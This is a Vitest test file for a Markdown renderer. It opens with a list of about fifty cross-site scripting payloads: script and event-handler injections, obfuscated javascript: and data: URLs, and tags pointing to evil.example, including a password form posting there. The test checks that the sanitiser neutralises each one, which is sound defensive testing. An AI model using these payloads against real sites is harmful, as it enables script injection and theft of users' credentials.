import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '[x](https://a.example" onclick="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '<details ontoggle=alert(1) open>x</details>',
  '<div class="gallery modal modal-open" id="location" onclick="x()">x</div>',
  '<a name="cookie" id="cookie">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <script> --><img src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<p>unclosed <b><i><a href="https://x.example" onmouseover="alert(1)">x',
  '<img src="x" alt="`><script>alert(1)</script>">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '# <img src=x onerror=alert(1)> title',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
]

/** Every tag that is really one (in text, `<` is an entity), with its attributes by name. */
function tagsOf(html: string) {
  return Array.from(
    html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/giu),
    ([, tag = '', rest = '']) => ({
      tag,
      attributes: Array.from(
        rest.matchAll(/([a-z-]+)(?:="([^"]*)")?/giu),
        ([, name = '', value = '']) => [name, value] as const,
      ),
    }),
  )
}

const harmlessTags = new Set(
  'h2 h3 h4 h5 h6 p br hr blockquote pre code kbd samp em strong b i u s del ins mark small sub sup ul ol li a img figure figcaption div table caption thead tbody tfoot tr th td details summary'.split(
    ' ',
  ),
)
const harmlessAttributes = new Set(
  'href title rel src alt width height loading decoding class id open start align lang colspan'.split(
    ' ',
  ),
)

describe('renderMarkdown against attacks', () => {
  it.each(attacks)('makes harmless: %j', (attack) => {
    const html = renderMarkdown(`Antes\n\n${attack}\n\nDespués`)
    const tags = tagsOf(html)
    // What is not a tag of the list is text: no `<` may be left over.
    expect(
      html.replace(/<\/?[a-z][a-z0-9]*(?:\s+[a-z-]+(?:="[^"<>]*")?)*\s*\/?>/giu, ''),
    ).not.toMatch(/</u)
    expect(tags.filter(({ tag }) => !harmlessTags.has(tag))).toEqual([])
    const attributes = tags.flatMap((tag) => tag.attributes)
    expect(attributes.filter(([name]) => !harmlessAttributes.has(name))).toEqual([])
    const addresses = attributes
      .filter(([name]) => name === 'href' || name === 'src')
      .map(([, value]) => value)
    expect(
      addresses.filter((value) => /^[\s\p{Cc}]*(?:javascript|data|vbscript)\s*:/iu.test(value)),
    ).toEqual([])
    const classes = attributes.filter(([name]) => name === 'class').map(([, value]) => value)
    expect(classes.filter((value) => !/^(?:gallery|language-[\w"&;-]*)$/u.test(value))).toEqual([])
    const ids = attributes.filter(([name]) => name === 'id').map(([, value]) => value)
    expect(ids.filter((value) => !value.startsWith('s-'))).toEqual([])
  })
})

describe('renderMarkdown', () => {
  it.each([
    ['Hola **mundo**', '<p>Hola <strong>mundo</strong></p>\n'],
    ['~~no~~ `sí <b>`', '<p><del>no</del> <code>sí &lt;b&gt;</code></p>\n'],
    ['[a](/es/news "T")', '<p><a href="/es/news" title="T">a</a></p>\n'],
    ['[a](https://x.example)', '<p><a href="https://x.example" rel="noopener">a</a></p>\n'],
    ['<hola@x.example>', '<p><a href="mailto:hola@x.example">hola@x.example</a></p>\n'],
    ['[a](//x.example)', '<p><a href="https://x.example" rel="noopener">a</a></p>\n'],
    [
      '![Foto](/a.png "T")',
      '<p><img src="/a.png" alt="Foto" title="T" loading="lazy" decoding="async" /></p>\n',
    ],
    [
      '<img src="/a.png " width="640" height="100%" class="x">',
      '<img src="/a.png" alt="" width="640" loading="lazy" decoding="async" />',
    ],
    [
      '![Foto](https://x.example/a.png) <img src="a.png" alt="B">',
      '<p><a href="https://x.example/a.png" rel="noopener">Foto</a> </p>\n',
    ],
    ['[![Foto](//x.example/a.png)](/es/)', '<p><a href="/es/">Foto</a></p>\n'],
    ['<img src="https://">', ''],
    [
      '<div class="gallery row">\n<figure><img src="/a.png" alt="A"><figcaption>A</figcaption></figure>\n</div>',
      '<div class="gallery">\n<figure><img src="/a.png" alt="A" loading="lazy" decoding="async" /><figcaption>A</figcaption></figure>\n</div>',
    ],
    ['```js\nlet a\n```', '<pre><code class="language-js">let a\n</code></pre>\n'],
    [`\`\`\`\n${'-'.repeat(60)}\n\`\`\``, `<pre><code>${'-'.repeat(60)}\n</code></pre>\n`],
    ['a < b & c', '<p>a &lt; b &amp; c</p>\n'],
    ['', ''],
  ])('%j', (text, html) => {
    expect(renderMarkdown(text)).toBe(html)
  })

  it('begins headings at h2, skips no level and gives unique ids', () => {
    expect(renderMarkdown('# Uno\n\n### Dos & más\n\n# Uno\n\n<h5>Tres</h5>\n\n## 日本')).toBe(
      '<h2 id="s-uno">Uno</h2>\n<h3 id="s-dos-and-mas">Dos &amp; más</h3>\n<h2 id="s-uno-2">Uno</h2>\n<h3 id="s-tres">Tres</h3><h3 id="s-日本">日本</h3>\n',
    )
    expect(renderMarkdown('### Solo')).toBe('<h2 id="s-solo">Solo</h2>\n')
  })

  it('survives text that is nested too deep', () => {
    expect(renderMarkdown(`${'> '.repeat(5_000)}fin`)).toContain('fin')
    expect(renderMarkdown(`${'- '.repeat(5_000)}fin`)).toContain('fin')
    expect(renderMarkdown(`${'<div>'.repeat(5_000)}fin`)).toContain('fin')
  })

  it('shows task lists without form controls', () => {
    const html = renderMarkdown('- [x] hecho\n- [ ] falta')
    expect(html).toContain('<samp>☑</samp>')
    expect(html).toContain('<samp>☐</samp>')
    expect(html).not.toContain('<input')
  })
})
